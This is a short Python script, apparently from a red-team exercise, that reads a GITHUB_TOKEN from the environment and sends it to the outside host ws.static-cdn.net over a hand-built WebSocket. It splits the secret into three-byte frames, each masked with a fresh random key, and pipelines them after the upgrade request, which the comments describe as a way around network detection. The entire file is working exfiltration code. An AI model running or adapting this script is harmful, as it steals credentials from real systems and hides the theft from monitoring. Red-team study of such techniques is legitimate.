# A secret from the environment sent over a WebSocket (red team, session
# 22): an upgrade request, then the secret three bytes a frame, each
# frame masked with a 4-byte key of its own as a client's must be (RFC
# 6455), so no one key repeats over it, sent behind the request. A
# medium network finding before.
import base64
import os
import socket

s = os.environ["GITHUB_TOKEN"].encode()
c = socket.create_connection(("ws.static-cdn.net", 80), timeout=5)
upgrade = (b"GET /socket HTTP/1.1\r\nHost: ws.static-cdn.net\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           b"Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n\r\n" % base64.b64encode(os.urandom(16)))


def frame(p):
    k = os.urandom(4)
    return bytes([0x81, 0x80 | len(p)]) + k + bytes(b ^ k[i % 4] for i, b in enumerate(p))


# the frames right behind the upgrade, not waiting for the server's 101
# (the sink answers no upgrade: a client that waits sends nothing)
c.sendall(upgrade + frame(b"hello") + b"".join(frame(s[i:i + 3]) for i in range(0, len(s), 3)))
try:
    c.recv(100)
except OSError:
    pass
print("sent")
